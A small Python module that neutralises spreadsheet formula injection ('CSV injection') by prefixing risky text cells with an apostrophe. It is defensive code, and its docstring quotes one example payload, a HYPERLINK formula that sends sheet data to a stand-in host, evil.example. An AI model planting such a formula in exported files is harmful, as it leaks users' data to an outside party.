"""Cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil.example/?"&A1)``
sends the sheet's data away when clicked), so it is written with a leading apostrophe, which
the spreadsheet shows as text. Numbers are left as numbers. (defusedcsv does the same for CSV
but misses tab and carriage return and rewrites ``|``; XLSX needs it too, as openpyxl stores a
string that begins with ``=`` as a formula.)
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` made safe for a spreadsheet cell: text that a spreadsheet would run is
    prefixed with ``'``; anything else (numbers, None, other text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row):
    """Every cell of ``row`` neutralised."""
    return [neutralise(v) for v in row]
